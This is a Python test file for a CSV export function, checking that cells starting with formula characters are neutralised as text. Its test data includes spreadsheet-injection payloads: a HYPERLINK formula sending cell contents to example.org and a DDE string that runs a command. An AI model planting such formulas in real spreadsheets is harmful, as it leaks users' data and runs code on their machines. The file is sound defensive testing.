import csv
import io

import pytest

from ml.spreadsheets import spreadsheet


def cells(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_what_is_written_is_read_again():
    rows = [["glioma/1.png", "0.0123"], ['a, "b"\nc', "Größe"]]

    assert cells(spreadsheet(["key", "value"], rows)) == [["key", "value"], *rows]


def test_excel_is_told_that_it_is_utf_8():
    assert spreadsheet(["key"], []) == b"\xef\xbb\xbfkey\r\n"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
    ],
)
def test_what_a_spreadsheet_would_compute_stays_text(text):
    assert cells(spreadsheet(["key"], [[text]])) == [["key"], [f"'{text}"]]
